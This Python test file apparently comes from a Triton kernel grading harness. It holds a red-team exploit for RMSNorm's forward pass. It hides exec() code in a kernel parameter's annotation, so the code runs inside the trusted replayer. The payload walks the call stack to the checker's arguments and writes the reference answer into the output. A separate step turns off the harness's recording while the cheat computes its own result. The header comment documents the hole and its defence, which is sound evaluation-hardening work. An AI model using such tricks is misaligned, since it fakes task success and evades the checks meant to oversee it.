# Exploit: Python in a kernel parameter's annotation. The replayer's check of a kernel's source walked its body and
# its defaults, never its annotations, yet Triton's code generator evaluates a parameter's annotation (with its own
# builtins, getattr among them) when it compiles the kernel, in the replayer's compile check. So
# `getattr(getattr(getattr(tl, "core"), "__builtins__"), "get")("exec")(...)` ran any Python in the trusted replayer:
# here it finds the launch's arguments up the stack and writes PyTorch's answer into the output before the idle
# kernel runs. A constexpr that changes on every call makes every replay compile (and run the payload) again. Found by
# a red team on 2026-12-07: 60/60 on rmsnorm's forward. Defence: an annotation must name a type (a string, int,
# float, bool, str, or something of triton.language such as tl.constexpr), checked with the rest of the kernel's
# source before anything compiles (kernel_source._check_annotation). Written for RMSNorm (the first assignment, where
# the suite runs it): the defence does not depend on what the kernel computes.
import inspect as _inspect
import itertools as _itertools

import torch as _torch
import triton as _triton
import triton.language as tl
from torch.utils._python_dispatch import _get_current_dispatch_mode as _current_mode


@_triton.jit
def _annotated_kernel(x_ptr, w_ptr, y_ptr, n_cols: getattr(getattr(getattr(tl, "core"), "__builtins__"), "get")("exec")(
        "import sys, torch\nf = sys._getframe()\n"
        "while f is not None and not (f.f_code.co_name == 'check' and 'args' in f.f_locals and 'name' in f.f_locals):\n"
        "    f = f.f_back\n"
        "if f is not None:\n    x, w, y, n, eps = f.f_locals['args'][:5]\n"
        "    y.copy_(torch.nn.functional.rms_norm(x.double(), (n,), w.double(), eps).to(y.dtype))\n"),
        eps, SALT: tl.constexpr):
    pass


_SALT = _itertools.count(1)


def _records():
    return _inspect.unwrap(type(_current_mode()).__torch_dispatch__).__globals__


def _cheat(honest, name):
    assert SLUG == "rmsnorm", "written for RMSNorm's forward"  # noqa: F821  (given by the test)

    def cheat(x, weight, eps=1e-6):
        records = _records()
        watch = records["_WATCH"]
        n = x.shape[-1]
        x2 = x.reshape(-1, n)
        y = _torch.empty_like(x2)
        records["_WATCH"] = None
        try:  # the worker's answer, unrecorded; the replayer's comes from the annotation
            y.copy_(_torch.nn.functional.rms_norm(x2.double(), (n,), weight.double(), eps).to(y.dtype))
        finally:
            records["_WATCH"] = watch
        _annotated_kernel[(1,)](x2, weight, y, n, eps, SALT=next(_SALT))
        return y.view(x.shape)

    return cheat
